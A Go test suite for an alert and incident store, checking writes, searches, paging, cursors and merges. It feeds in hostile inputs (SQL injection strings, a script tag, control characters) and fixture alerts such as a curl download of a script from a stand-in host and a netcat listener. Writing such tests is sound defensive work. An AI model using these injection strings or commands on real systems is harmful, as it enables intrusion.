// Package storetest has the tests that every store.Store passes.
package storetest

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tiercel/tiercel/store"
)

// Open opens an empty store, which it closes when the test ends.
type Open func(t testing.TB) store.Store

// Run runs all tests.
func Run(t *testing.T, open Open) {
	for _, test := range []struct {
		name string
		run  func(*testing.T, store.Store)
	}{
		{"Empty", empty},
		{"WriteAndRead", writeAndRead},
		{"HostileText", hostileText},
		{"AllOrNothing", allOrNothing},
		{"WriteAgain", writeAgain},
		{"IncidentQueries", incidentQueries},
		{"AlertQueries", alertQueries},
		{"AlertQueriesOfMany", alertQueriesOfMany},
		{"TextIsData", textIsData},
		{"Cursors", cursors},
		{"StablePages", stablePages},
		{"PageBounds", pageBounds},
		{"Merges", merges},
		{"Splits", splits},
		{"Handling", handling},
		{"Reopen", reopen},
		{"Rewind", rewind},
		{"Live", live},
		{"LiveIsBounded", liveIsBounded},
		{"Silences", silences},
		{"DeadLetters", deadLetters},
		{"Tokens", tokens},
		{"Users", users},
		{"AuditTrail", auditTrail},
		{"RetainByAge", retainByAge},
		{"RetainBySize", retainBySize},
		{"Backup", backup},
		{"Concurrent", concurrent},
		{"Cancelled", cancelled},
	} {
		t.Run(test.name, func(t *testing.T) {
			s := open(t)
			test.run(t, s)
			for _, err := range s.Check(t.Context()) {
				t.Errorf("Check: %v", err)
			}
		})
	}
}

// Start is the time of the first alert of the made-up ones.
var Start = time.Date(2026, 11, 24, 12, 0, 0, 123456789, time.UTC)

func at(n int) time.Time { return Start.Add(time.Duration(n) * time.Second) }

// kind of the given incident, with text to look for.
func kind(id uint64, incident, rule, host, text string) store.Kind {
	return store.Kind{ID: id, Incident: incident, Key: fmt.Sprintf("key-%d", id), Rule: rule, Source: "syscall", Priority: "Warning",
		Host: host, Class: "suspicious", Severity: "medium", Count: 1, First: at(int(id)), Last: at(int(id)), FirstSeq: id,
		State: []byte{0, 1, byte(id)}, Searchable: text}
}

func incident(id string, rank int) store.Incident {
	return store.Incident{ID: id, Headline: "what " + id + " is", Class: "suspicious", Severity: "medium", Rank: rank, Kinds: 1, Count: 1,
		First: at(0), Last: at(rank), Hosts: []string{"h1"}, Rules: []string{"r1"}, Stages: []string{"execution"}, Changed: at(rank),
		Handling: store.Handling{Status: store.Open}}
}

func alertOf(seq, kind uint64) store.Alert {
	return store.Alert{Seq: seq, Time: at(int(seq)), Received: at(int(seq)).Add(time.Millisecond), Kind: kind, Raw: fmt.Appendf(nil, `{"alert":%d}`, seq)}
}

func write(t testing.TB, s store.Store, b store.Batch) {
	t.Helper()
	if b.Next == 0 {
		p, err := s.Position(t.Context())
		fatal(t, err)
		b.Next = p
		if n := len(b.Alerts); n > 0 {
			b.Next = max(p, b.Alerts[n-1].Seq+1)
		}
	}
	fatal(t, s.Write(t.Context(), &b))
}

func fatal(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func want[T any](t testing.TB, what string, got, want T) {
	t.Helper()
	if g, w := fmt.Sprintf("%+v", got), fmt.Sprintf("%+v", want); g != w {
		t.Errorf("%s:\n got %s\nwant %s", what, g, w)
	}
}

func notFound(t testing.TB, what string, err error) {
	t.Helper()
	if !errors.Is(err, store.ErrNotFound) {
		t.Errorf("%s: %v, not ErrNotFound", what, err)
	}
}

// incidents walks all pages.
func incidents(t testing.TB, s store.Store, q store.Query) (ids []string) {
	t.Helper()
	for {
		page, err := s.Incidents(t.Context(), q)
		fatal(t, err)
		for _, i := range page.Items {
			ids = append(ids, i.ID)
		}
		if page.Next == "" {
			return ids
		}
		q.After = page.Next
	}
}

// alerts walks all pages.
func alerts(t testing.TB, s store.Store, q store.Query) (seqs []uint64) {
	t.Helper()
	for {
		page, err := s.Alerts(t.Context(), q)
		fatal(t, err)
		for _, a := range page.Items {
			seqs = append(seqs, a.Seq)
		}
		if page.Next == "" {
			return seqs
		}
		q.After = page.Next
	}
}

func empty(t *testing.T, s store.Store) {
	ctx := t.Context()
	p, err := s.Position(ctx)
	fatal(t, err)
	want(t, "position", p, 0)
	want(t, "incidents", incidents(t, s, store.Query{}), nil)
	want(t, "alerts", alerts(t, s, store.Query{}), nil)
	_, _, err = s.Incident(ctx, "none")
	notFound(t, "Incident", err)
	_, err = s.Alert(ctx, 7)
	notFound(t, "Alert", err)
	_, err = s.Alert(ctx, 1<<63)
	notFound(t, "Alert out of range", err)
	kinds, err := s.Kinds(ctx, []uint64{1})
	fatal(t, err)
	want(t, "kinds", len(kinds), 0)
	st, err := s.Stats(ctx)
	fatal(t, err)
	if st.Alerts != 0 || !st.Oldest.IsZero() || st.Bytes == 0 {
		t.Errorf("stats: %+v", st)
	}
	n, err := s.Retain(ctx, Start, time.Hour, 1<<20)
	fatal(t, err)
	want(t, "removed", n, 0)
}

func writeAndRead(t *testing.T, s store.Store) {
	ctx := t.Context()
	in := incident("i1", 40)
	in.Hosts, in.Rules, in.Stages = []string{"a", "b"}, []string{"r,1", `r"2`}, nil
	k1, k2 := kind(1<<63+5, "i1", "r1", "a", "bash"), kind(2, "i1", "r2", "b", "curl")
	k1.FirstSeq, k2.FirstSeq = 0, 1
	k1.Container, k1.Repeats = "web", 3
	k2.State, k2.First, k2.Last = nil, time.Time{}, time.Time{}
	a := []store.Alert{alertOf(0, k1.ID), alertOf(1, k2.ID), alertOf(2, 0), alertOf(5, k1.ID)}
	a[1].Time, a[1].Raw = time.Time{}, []byte{}
	a[2].Repeat, a[2].Raw = true, []byte("\x00\xff not text \r\n")
	a[3].Raw = bytes.Repeat([]byte("long "), 100_000)
	a[3].Time = a[3].Time.In(time.FixedZone("", 3600))
	write(t, s, store.Batch{Alerts: a, Kinds: []store.Kind{k1, k2}, Incidents: []store.Incident{in}, Next: 6})

	p, err := s.Position(ctx)
	fatal(t, err)
	want(t, "position", p, 6)
	got, kinds, err := s.Incident(ctx, "i1")
	fatal(t, err)
	want(t, "incident", got, in)
	want(t, "kinds", kinds, []store.Kind{k1, k2})
	kinds, err = s.Kinds(ctx, []uint64{2, 99, k1.ID})
	fatal(t, err)
	want(t, "kinds by id", kinds, []store.Kind{k2, k1})
	page, err := s.Alerts(ctx, store.Query{OldestFirst: true})
	fatal(t, err)
	a[3].Time = a[3].Time.UTC()
	for i := range a {
		if !bytes.Equal(page.Items[i].Raw, a[i].Raw) {
			t.Errorf("alert %d: raw is not what was written", a[i].Seq)
		}
		one, err := s.Alert(ctx, a[i].Seq)
		fatal(t, err)
		if !bytes.Equal(one.Raw, a[i].Raw) {
			t.Errorf("alert %d: raw is not what was written", a[i].Seq)
		}
		page.Items[i].Raw, a[i].Raw = nil, nil
	}
	want(t, "alerts", page.Items, a)
	st, err := s.Stats(ctx)
	fatal(t, err)
	if st.Alerts != 4 || st.Kinds != 2 || st.Incidents != 1 || st.Next != 6 || !st.Oldest.Equal(a[0].Received) {
		t.Errorf("stats: %+v", st)
	}

	// A second batch replaces kinds and incidents.
	in.Headline, in.Rank, in.Count, in.Last = "worse", 70, 9, at(99)
	k1.Count, k1.State, k1.Searchable, k1.Last = 8, []byte("other"), "zsh", at(99)
	write(t, s, store.Batch{Kinds: []store.Kind{k1}, Incidents: []store.Incident{in}, Next: 7})
	got, kinds, err = s.Incident(ctx, "i1")
	fatal(t, err)
	want(t, "incident", got, in)
	want(t, "kinds", kinds, []store.Kind{k1, k2})
	want(t, "new text", incidents(t, s, store.Query{Text: "zsh"}), []string{"i1"})
	want(t, "old text", incidents(t, s, store.Query{Text: "bash"}), nil)
	k1.Searchable = ""
	write(t, s, store.Batch{Kinds: []store.Kind{k1}})
	want(t, "text is left", incidents(t, s, store.Query{Text: "zsh"}), []string{"i1"})
	k1.Searchable = "fish"
	write(t, s, store.Batch{Kinds: []store.Kind{k1}})
	want(t, "text again", incidents(t, s, store.Query{Text: "fish"}), []string{"i1"})

	// Times that do not fit are the nearest, never nonsense.
	far := alertOf(10, 0)
	far.Time = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)
	early := alertOf(11, 0)
	early.Time = time.Date(2, 1, 1, 0, 0, 0, 0, time.UTC)
	write(t, s, store.Batch{Alerts: []store.Alert{far, early}})
	for seq, ok := range map[uint64]func(time.Time) bool{
		10: func(x time.Time) bool { return x.Year() >= 2262 },
		11: func(x time.Time) bool { return !x.IsZero() && x.Year() <= 1678 },
	} {
		x, err := s.Alert(ctx, seq)
		fatal(t, err)
		if !ok(x.Time) {
			t.Errorf("alert %d: time %v", seq, x.Time)
		}
	}
}

// Hostile are texts that break what is not careful.
var Hostile = []string{
	`'; DROP TABLE alert; --`, `" OR 1=1`, `%`, `_`, `*`, `NEAR(`, `a AND`, `NOT`, `-x`, `col:x`, `{a b}:c`, `^x`, `(((`, `"`, `""`, `'`,
	`\`, "a\x00b", "\x1b[31m", "\u202eevil", "<script>alert(1)</script>", "𝕏 žluťoučký 漢字", "\n\r\t", strings.Repeat("x", 5000), "x*", "* *", "a\"*b*",
}

func hostileText(t *testing.T, s store.Store) {
	ctx := t.Context()
	for i, text := range Hostile {
		in := incident(fmt.Sprintf("id-%d-%s", i, text), i)
		in.Headline, in.Class, in.Severity = text, text, text
		in.Hosts, in.Rules, in.Stages = []string{text, ""}, []string{text}, []string{text}
		k := kind(uint64(i+1), in.ID, text, text, text+" needle")
		k.Key, k.Source, k.Priority, k.Container, k.Class, k.Severity = text, text, text, text, text, text
		a := alertOf(uint64(i+1), k.ID)
		a.Raw = []byte(text)
		write(t, s, store.Batch{Alerts: []store.Alert{a}, Kinds: []store.Kind{k}, Incidents: []store.Incident{in}})
		got, kinds, err := s.Incident(ctx, in.ID)
		fatal(t, err)
		want(t, "incident", got, in)
		want(t, "kind", kinds, []store.Kind{k})
		for what, q := range map[string]store.Query{
			"rule":       {Rule: text},
			"host":       {Host: text},
			"container":  {Container: text},
			"classes":    {Classes: []string{"other", text}},
			"severities": {Severities: []string{text}},
			"incident":   {Incident: in.ID},
		} {
			want(t, fmt.Sprintf("incidents by %s %q", what, text), incidents(t, s, q), []string{in.ID})
			want(t, fmt.Sprintf("alerts by %s %q", what, text), alerts(t, s, q), []uint64{a.Seq})
		}
		h := store.Handling{Status: store.Closed, Finding: text, By: text, Why: text, At: at(1)}
		if text == "" {
			continue
		}
		fatal(t, s.Handle(ctx, in.ID, h))
		got, _, err = s.Incident(ctx, in.ID)
		fatal(t, err)
		want(t, "handling", got.Handling, h)
	}
	want(t, "all", len(incidents(t, s, store.Query{Text: "needle", Limit: 7})), len(Hostile))
}

func allOrNothing(t *testing.T, s store.Store) {
	ctx := t.Context()
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(1, 1)}, Kinds: []store.Kind{kind(1, "i", "r", "h", "one")}, Incidents: []store.Incident{incident("i", 1)}, Next: 2})
	for name, b := range map[string]store.Batch{
		"an alert of no kind":    {Alerts: []store.Alert{alertOf(2, 1), alertOf(3, 77)}, Next: 9},
		"a kind of no incident":  {Alerts: []store.Alert{alertOf(2, 1)}, Kinds: []store.Kind{kind(2, "nowhere", "r", "h", "")}, Next: 9},
		"a kind without an ID":   {Alerts: []store.Alert{alertOf(2, 1)}, Kinds: []store.Kind{kind(0, "i", "r", "h", "")}, Next: 9},
		"a split with kinds":     {Alerts: []store.Alert{alertOf(2, 1)}, Gone: []store.Gone{{ID: "i"}}, Next: 9},
		"merged into nothing":    {Alerts: []store.Alert{alertOf(2, 1)}, Gone: []store.Gone{{ID: "i", Into: "nowhere"}}, Next: 9},
		"merged into itself":     {Alerts: []store.Alert{alertOf(2, 1)}, Gone: []store.Gone{{ID: "i", Into: "i"}}, Next: 9},
		"position out of range":  {Alerts: []store.Alert{alertOf(2, 1)}, Next: 1 << 63},
		"seq out of range":       {Alerts: []store.Alert{alertOf(2, 1), {Seq: 1 << 63, Received: at(1)}}, Next: 9},
		"the same kind twice":    {Kinds: []store.Kind{kind(3, "i", "r", "h", "a"), kind(3, "i", "r", "h", "b")}, Next: 9},
		"an incident without ID": {Alerts: []store.Alert{alertOf(2, 1)}, Incidents: []store.Incident{{}}, Next: 9},
	} {
		if err := s.Write(ctx, &b); err == nil {
			t.Errorf("%s: written", name)
		}
		p, err := s.Position(ctx)
		fatal(t, err)
		want(t, name+": position", p, 2)
		want(t, name+": alerts", alerts(t, s, store.Query{}), []uint64{1})
	}
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(2, 1)}})
	want(t, "alerts", alerts(t, s, store.Query{}), []uint64{2, 1})
}

func writeAgain(t *testing.T, s store.Store) {
	ctx := t.Context()
	in := incident("i", 1)
	b := store.Batch{Alerts: []store.Alert{alertOf(3, 1), alertOf(1, 1), alertOf(2, 2), alertOf(2, 2)}, // not in order, one twice
		Kinds: []store.Kind{kind(1, "i", "r", "h", "one"), kind(2, "i", "r", "h", "two")}, Incidents: []store.Incident{in, incident("j", 2)},
		Gone: []store.Gone{{ID: "j", Into: "i"}, {ID: "never", Into: "i"}, {ID: "split"}}, Next: 4}
	write(t, s, b)
	before, err := s.Stats(ctx)
	fatal(t, err)
	fatal(t, s.Handle(ctx, "i", store.Handling{Status: store.Closed, Finding: "test", By: "ann", Why: "drill", At: at(5)}))
	write(t, s, b)
	after, err := s.Stats(ctx)
	fatal(t, err)
	before.Bytes, after.Bytes = 0, 0
	want(t, "stats", after, before)
	want(t, "alerts", alerts(t, s, store.Query{}), []uint64{3, 2, 1})
	got, _, err := s.Incident(ctx, "never")
	fatal(t, err)
	want(t, "handling", got.Handling, store.Handling{Status: store.Closed, Finding: "test", By: "ann", Why: "drill", At: at(5)})

	// Half of it known, one of another kind now.
	moved := alertOf(2, 1)
	moved.Raw = []byte("what came first stays")
	write(t, s, store.Batch{Alerts: []store.Alert{moved, alertOf(3, 1), alertOf(4, 2)}, Next: 5})
	want(t, "kind 1", alerts(t, s, store.Query{Kind: 1}), []uint64{3, 2, 1})
	want(t, "kind 2", alerts(t, s, store.Query{Kind: 2}), []uint64{4})
	a, err := s.Alert(ctx, 2)
	fatal(t, err)
	want(t, "raw", string(a.Raw), `{"alert":2}`)
}

// world is incidents a to e of different classes, hosts, rules.
func world(t *testing.T, s store.Store) {
	t.Helper()
	var b store.Batch
	for i, x := range []struct{ id, class, severity, rule, host, container, text string }{
		{"a", "attack", "critical", "Fileless", "web-1", "shop", "memfd:payload executed by www-data from 10.0.0.7"},
		{"b", "suspicious", "medium", "Shell", "web-1", "", "bash spawned in /var/www/html by www-data"},
		{"c", "benign", "low", "Shell", "db-1", "", "backup ran pg_dump at café"},
		{"d", "test", "info", "Fileless", "db-1", "shop", "event-generator memfd run"},
		{"e", "suspicious", "medium", "Odd", "web-2", "blog", "curl http://evil.example/x.sh"},
	} {
		in := incident(x.id, 50-10*i)
		in.Class, in.Severity, in.First, in.Last = x.class, x.severity, at(100*i+1), at(100*i+50)
		k := kind(uint64(i+1), x.id, x.rule, x.host, x.text)
		k.Class, k.Severity, k.Container = x.class, x.severity, x.container
		for n := range 3 {
			a := alertOf(uint64(100*i+10*n+1), k.ID)
			b.Alerts = append(b.Alerts, a)
		}
		b.Kinds, b.Incidents = append(b.Kinds, k), append(b.Incidents, in)
	}
	// A second kind of b, on another host.
	k := kind(6, "b", "Odd", "db-1", "nc listens on 4444")
	k.FirstSeq = 900
	b.Kinds = append(b.Kinds, k)
	b.Alerts = append(b.Alerts, alertOf(900, 6), alertOf(901, 0))
	write(t, s, b)
	fatal(t, s.Handle(t.Context(), "c", store.Handling{Status: store.Closed, Finding: "false alarm", By: "ann", Why: "nightly", At: at(1)}))
	fatal(t, s.Handle(t.Context(), "e", store.Handling{Status: store.Handled, By: "bob", Why: "looking", At: at(1)}))
}

func incidentQueries(t *testing.T, s store.Store) {
	world(t, s)
	for _, test := range []struct {
		name string
		q    store.Query
		want string
	}{
		{"the worst first", store.Query{}, "abcde"},
		{"oldest first", store.Query{OldestFirst: true}, "abcde"},
		{"class", store.Query{Classes: []string{"attack", "test"}}, "ad"},
		{"severity", store.Query{Severities: []string{"medium"}}, "be"},
		{"class and severity", store.Query{Classes: []string{"attack"}, Severities: []string{"medium"}}, ""},
		{"status", store.Query{Statuses: []store.Status{store.Open}}, "abd"},
		{"statuses", store.Query{Statuses: []store.Status{store.Closed, store.Handled}}, "ce"},
		{"rule", store.Query{Rule: "Shell"}, "bc"},
		{"host", store.Query{Host: "db-1"}, "bcd"},
		{"rule and host are of one kind", store.Query{Rule: "Shell", Host: "db-1"}, "c"},
		{"container", store.Query{Container: "shop"}, "ad"},
		{"incident", store.Query{Incident: "d"}, "d"},
		{"no such incident", store.Query{Incident: "zz"}, ""},
		{"kind", store.Query{Kind: 6}, "b"},
		{"text", store.Query{Text: "memfd"}, "ad"},
		{"words are of one kind", store.Query{Text: "www-data 4444"}, ""},
		{"two words", store.Query{Text: "memfd EXECUTED"}, "a"},
		{"an address", store.Query{Text: "10.0.0.7"}, "a"},
		{"not a part of an address", store.Query{Text: "0.0.10"}, ""},
		{"a path", store.Query{Text: "/var/www"}, "b"},
		{"a prefix", store.Query{Text: "evi*"}, "e"},
		{"no prefix", store.Query{Text: "evi"}, ""},
		{"accents", store.Query{Text: "cafe"}, "c"},
		{"text and host", store.Query{Text: "memfd", Host: "db-1"}, "d"},
		{"since", store.Query{Since: at(350)}, "de"},
		{"until", store.Query{Until: at(101)}, "a"},
		{"window", store.Query{Since: at(120), Until: at(130)}, "b"},
		{"gap", store.Query{Since: at(160), Until: at(170)}, ""},
		{"pages of one", store.Query{Limit: 1}, "abcde"},
		{"pages of two, oldest first", store.Query{Limit: 2, OldestFirst: true}, "abcde"},
		{"pages of two, by text", store.Query{Limit: 2, Text: "memfd*"}, "ad"},
	} {
		want(t, test.name, strings.Join(incidents(t, s, test.q), ""), test.want)
	}
}

func alertQueries(t *testing.T, s store.Store) {
	world(t, s)
	for _, test := range []struct {
		name string
		q    store.Query
		want []uint64
	}{
		{"oldest first", store.Query{OldestFirst: true, Limit: 4}, []uint64{1, 11, 21, 101, 111, 121, 201, 211, 221, 301, 311, 321, 401, 411, 421, 900, 901}},
		{"latest first", store.Query{Since: at(401)}, []uint64{901, 900, 421, 411, 401}},
		{"rule", store.Query{Rule: "Fileless"}, []uint64{321, 311, 301, 21, 11, 1}},
		{"rule, pages", store.Query{Rule: "Fileless", Limit: 2, OldestFirst: true}, []uint64{1, 11, 21, 301, 311, 321}},
		{"host and rule", store.Query{Rule: "Shell", Host: "db-1"}, []uint64{221, 211, 201}},
		{"container", store.Query{Container: "blog"}, []uint64{421, 411, 401}},
		{"kind", store.Query{Kind: 2, OldestFirst: true}, []uint64{101, 111, 121}},
		{"incident", store.Query{Incident: "b", OldestFirst: true}, []uint64{101, 111, 121, 900}},
		{"no such incident", store.Query{Incident: "zz"}, nil},
		{"no such kind", store.Query{Kind: 99}, nil},
		{"class", store.Query{Classes: []string{"benign", "test"}, OldestFirst: true}, []uint64{201, 211, 221, 301, 311, 321}},
		{"severity", store.Query{Severities: []string{"critical"}}, []uint64{21, 11, 1}},
		{"status", store.Query{Statuses: []store.Status{store.Closed}}, []uint64{221, 211, 201}},
		{"text", store.Query{Text: "memfd"}, []uint64{321, 311, 301, 21, 11, 1}},
		{"window", store.Query{Since: at(11), Until: at(111)}, []uint64{101, 21, 11}},
		{"window and host", store.Query{Since: at(11), Until: at(950), Host: "db-1"}, []uint64{900, 321, 311, 301, 221, 211, 201}},
		{"window without any", store.Query{Since: at(5000)}, nil},
		{"window that ends before it starts", store.Query{Since: at(300), Until: at(200)}, nil},
	} {
		want(t, test.name, alerts(t, s, test.q), test.want)
	}
}

// alertQueriesOfMany holds queries over many kinds against a plain filter.
func alertQueriesOfMany(t *testing.T, s store.Store) {
	const kinds, total = 2600, 6500
	b := store.Batch{Incidents: []store.Incident{incident("busy", 3), incident("wide", 2), incident("rare", 1)}}
	of := map[uint64]store.Kind{}
	for i := uint64(1); i <= kinds; i++ {
		where, rule := "wide", "many"
		switch {
		case i <= 3:
			where, rule = "busy", "few"
		case i%13 == 0:
			where, rule = "rare", "thin"
		}
		k := kind(i, where, rule, fmt.Sprintf("h%d", i%2), fmt.Sprintf("word%d all", i))
		of[i] = k
		b.Kinds = append(b.Kinds, k)
	}
	var list []store.Alert
	for i := uint64(1); i <= total; i++ {
		k := i % kinds
		if i%7 != 0 || k == 0 {
			k = i%3 + 1 // the busy ones
		}
		a := alertOf(i, k)
		if i%50 == 0 {
			a.Time = at(int(total - i)) // out of order
		}
		list = append(list, a)
	}
	b.Alerts = list[:len(list)/2]
	write(t, s, b)
	for rest := list[len(list)/2:]; len(rest) > 0; {
		n := min(500, len(rest))
		write(t, s, store.Batch{Alerts: rest[:n]})
		rest = rest[n:]
	}
	for _, test := range []struct {
		name string
		q    store.Query
		ok   func(store.Alert, store.Kind) bool
	}{
		{"every kind", store.Query{Text: "all"}, func(store.Alert, store.Kind) bool { return true }},
		{"few kinds, many alerts", store.Query{Incident: "busy"}, func(_ store.Alert, k store.Kind) bool { return k.Incident == "busy" }},
		{"many kinds", store.Query{Incident: "wide"}, func(_ store.Alert, k store.Kind) bool { return k.Incident == "wide" }},
		{"thin", store.Query{Rule: "thin"}, func(_ store.Alert, k store.Kind) bool { return k.Rule == "thin" }},
		{"host", store.Query{Host: "h1"}, func(_ store.Alert, k store.Kind) bool { return k.Host == "h1" }},
		{"rule and host", store.Query{Rule: "few", Host: "h0"}, func(_ store.Alert, k store.Kind) bool { return k.Rule == "few" && k.Host == "h0" }},
		{"busy and window", store.Query{Rule: "few", Since: at(4000), Until: at(4400)}, func(a store.Alert, k store.Kind) bool {
			return k.Rule == "few" && !a.Time.Before(at(4000)) && a.Time.Before(at(4400))
		}},
		{"window", store.Query{Since: at(4000), Until: at(4400)}, func(a store.Alert, _ store.Kind) bool {
			return !a.Time.Before(at(4000)) && a.Time.Before(at(4400))
		}},
	} {
		for _, old := range []bool{true, false} {
			test.q.OldestFirst, test.q.Limit = old, 700
			var expect []uint64
			for _, a := range list {
				if test.ok(a, of[a.Kind]) {
					expect = append(expect, a.Seq)
				}
			}
			if !old {
				slices.Reverse(expect)
			}
			var got []uint64
			if old {
				got = alerts(t, s, test.q)
			} else {
				page, err := s.Alerts(t.Context(), test.q)
				fatal(t, err)
				for _, a := range page.Items {
					got = append(got, a.Seq)
				}
				expect = expect[:min(len(expect), 700)]
			}
			if !slices.Equal(got, expect) {
				t.Errorf("%s, oldest first %v: %d alerts, not %d", test.name, old, len(got), len(expect))
			}
			// Small pages take other ways.
			test.q.Limit = 3
			page, err := s.Alerts(t.Context(), test.q)
			fatal(t, err)
			for i, a := range page.Items {
				if a.Seq != expect[i] {
					t.Errorf("%s, oldest first %v: item %d of a small page is %d, not %d", test.name, old, i, a.Seq, expect[i])
				}
			}
		}
	}
	want(t, "incidents by host", incidents(t, s, store.Query{Host: "h1"}), []string{"busy", "wide", "rare"})
	want(t, "incidents by text", incidents(t, s, store.Query{Text: "all", Limit: 1}), []string{"busy", "wide", "rare"})
	want(t, "incidents by rule and text", incidents(t, s, store.Query{Text: "all", Rule: "thin"}), []string{"rare"})
}

func textIsData(t *testing.T, s store.Store) {
	world(t, s)
	for _, text := range Hostile {
		if _, err := s.Incidents(t.Context(), store.Query{Text: text}); err != nil {
			t.Errorf("incidents with %q: %v", text, err)
		}
		if _, err := s.Alerts(t.Context(), store.Query{Text: text + " " + text, Rule: text, Host: text, Incident: text}); err != nil {
			t.Errorf("alerts with %q: %v", text, err)
		}
	}
	want(t, "operators are words", incidents(t, s, store.Query{Text: "memfd OR bash"}), nil)
	want(t, "NOT is a word", incidents(t, s, store.Query{Text: "memfd NOT bash"}), nil)
	want(t, "nothing to look for", incidents(t, s, store.Query{Text: "///"}), nil)
}

func cursors(t *testing.T, s store.Store) {
	world(t, s)
	ctx := t.Context()
	in, err := s.Incidents(ctx, store.Query{Limit: 1})
	fatal(t, err)
	al, err := s.Alerts(ctx, store.Query{Limit: 1})
	fatal(t, err)
	for name, err := range map[string]error{
		"not base64": second(s.Incidents(ctx, store.Query{After: "%%%"})),
		"nonsense":   second(s.Incidents(ctx, store.Query{After: "AAAA"})),
		"cut":        second(s.Incidents(ctx, store.Query{After: in.Next[:len(in.Next)-2]})),
		"longer":     second(s.Incidents(ctx, store.Query{After: in.Next + "AAAA"})),
		"of alerts":  second(s.Incidents(ctx, store.Query{After: al.Next})),
		"of inc.":    second(s.Alerts(ctx, store.Query{After: in.Next})),
		"order":      second(s.Alerts(ctx, store.Query{After: al.Next, OldestFirst: true})),
		"injection":  second(s.Alerts(ctx, store.Query{After: "1; DROP TABLE alert"})),
	} {
		if !errors.Is(err, store.ErrCursor) {
			t.Errorf("%s: %v, not ErrCursor", name, err)
		}
	}
}

func second[T any](_ T, err error) error { return err }

func stablePages(t *testing.T, s store.Store) {
	ctx := t.Context()
	add := func(from, to int) {
		var b store.Batch
		for i := from; i < to; i++ {
			id := fmt.Sprintf("i%03d", i)
			b.Incidents = append(b.Incidents, incident(id, i%5))
			b.Kinds = append(b.Kinds, kind(uint64(i+1), id, "r", "h", ""))
			b.Alerts = append(b.Alerts, alertOf(uint64(i+1), uint64(i+1)))
		}
		write(t, s, b)
	}
	add(0, 100)
	for _, q := range []store.Query{{Limit: 7}, {Limit: 7, OldestFirst: true}} {
		before := incidents(t, s, q)
		beforeAlerts := alerts(t, s, q)
		seen, seenAlerts := map[string]int{}, map[uint64]int{}
		n := len(before)
		for p := q; ; {
			page, err := s.Incidents(ctx, p)
			fatal(t, err)
			for _, i := range page.Items {
				seen[i.ID]++
			}
			if page.Next == "" {
				break
			}
			p.After = page.Next
			if n < 2*len(before) {
				add(n, n+5)
				n += 5
			}
		}
		for p := q; ; {
			page, err := s.Alerts(ctx, p)
			fatal(t, err)
			for _, a := range page.Items {
				seenAlerts[a.Seq]++
			}
			if page.Next == "" {
				break
			}
			p.After = page.Next
			if n < 3*len(before) {
				add(n, n+5)
				n += 5
			}
		}
		for _, id := range before {
			if seen[id] != 1 {
				t.Errorf("oldest first %v: incident %s was seen %d times", q.OldestFirst, id, seen[id])
			}
		}
		for _, seq := range beforeAlerts {
			if seenAlerts[seq] != 1 {
				t.Errorf("oldest first %v: alert %d was seen %d times", q.OldestFirst, seq, seenAlerts[seq])
			}
		}
		for id, times := range seen {
			if times != 1 {
				t.Errorf("oldest first %v: incident %s was seen %d times", q.OldestFirst, id, times)
			}
		}
	}
}

func pageBounds(t *testing.T, s store.Store) {
	var b store.Batch
	b.Incidents = []store.Incident{incident("i", 1)}
	b.Kinds = []store.Kind{kind(1, "i", "r", "h", "")}
	for i := uint64(1); i <= 1100; i++ {
		b.Alerts = append(b.Alerts, alertOf(i, 1))
	}
	write(t, s, b)
	long := alertOf(2000, 1)
	long.Raw = bytes.Repeat([]byte("x"), store.MaxPageBytes-10)
	longer := alertOf(2001, 1)
	longer.Raw = bytes.Repeat([]byte("y"), store.MaxPageBytes+10)
	write(t, s, store.Batch{Alerts: []store.Alert{long, longer}})
	q := store.Query{}
	for _, n := range []int{1, 1, 50} {
		page, err := s.Alerts(t.Context(), q)
		fatal(t, err)
		want(t, "page with long alerts", len(page.Items), n)
		q.After = page.Next
	}
	fatal(t, s.Rewind(t.Context(), 2000))
	for limit, n := range map[int]int{-1: 50, 0: 50, 1: 1, 1000: 1000, 5000: 1000} {
		page, err := s.Alerts(t.Context(), store.Query{Limit: limit})
		fatal(t, err)
		want(t, fmt.Sprintf("limit %d", limit), len(page.Items), n)
		if page.Next == "" {
			t.Errorf("limit %d: no next page", limit)
		}
	}
}

func merges(t *testing.T, s store.Store) {
	ctx := t.Context()
	k1, k2, k3 := kind(1, "a", "r", "h", "one"), kind(2, "b", "r", "h", "two"), kind(3, "b", "r", "h", "three")
	write(t, s, store.Batch{Alerts: []store.Alert{alertOf(1, 1), alertOf(2, 2), alertOf(3, 3)}, Kinds: []store.Kind{k1, k2, k3},
		Incidents: []store.Incident{incident("a", 10), incident("b", 20)}})
	fatal(t, s.Handle(ctx, "b", store.Handling{Status: store.Closed, Finding: "test", By: "ann", Why: "drill", At: at(9)}))
	// k3 is not told of: it goes along.
	k2.Incident = "a"
	b := store.Batch{Kinds: []store.Kind{k2}, Incidents: []store.Incident{incident("a", 30)}, Gone: []store.Gone{{ID: "b", Into: "a"}}}
	write(t, s, b)
	write(t, s, b)
	in, kinds, err := s.Incident(ctx, "b")
	fatal(t, err)
	want(t, "survivor", in.ID, "a")
	want(t, "status", in.Handling.Status, store.Open)
	want(t, "kinds", len(kinds), 3)
	want(t, "list", incidents(t, s, store.Query{}), []string{"a"})
	want(t, "alerts by old id", alerts(t, s, store.Query{Incident: "b"}), []uint64{3, 2, 1})
	want(t, "incidents by old id", incidents(t, s, store.Query{Incident: "b"}), []string{"a"})
	for _, id := range []string{"a", "b"} {
		list, err := s.History(ctx, id)
		fatal(t, err)
		if len(list) != 2 || list[0].What != "closed" || list[0].Who != "ann" || list[1].What != "merge" || list[1].Object != "a" || !strings.Contains(list[1].Detail, "drill") {
			t.Errorf("history of %s: %+v", id, list)
		}
	}
	// A chain, its second link in the same batch as the first is used.
	write(t, s, store.Batch{Incidents: []store.Incident{incident("c", 5), incident("d", 6)},
		Gone: []store.Gone{{ID: "a", Into: "c"}, {ID: "c", Into: "d"}}})
	in, kinds, err = s.Incident(ctx, "b")
	fatal(t, err)
	want(t, "end of the chain", in.ID, "d")
	want(t, "kinds", len(kinds), 3)
	fatal(t, s.Handle(ctx, "b", store.Handling{Status: store.Handled, By: "bob", Why: "mine", At: at(10)}))
	in, _, err = s.Incident(ctx, "d")
	fatal(t, err)
	want(t, "handled by an old id", in.Handling.By, "bob")
	// A circle is refused, a return is not.
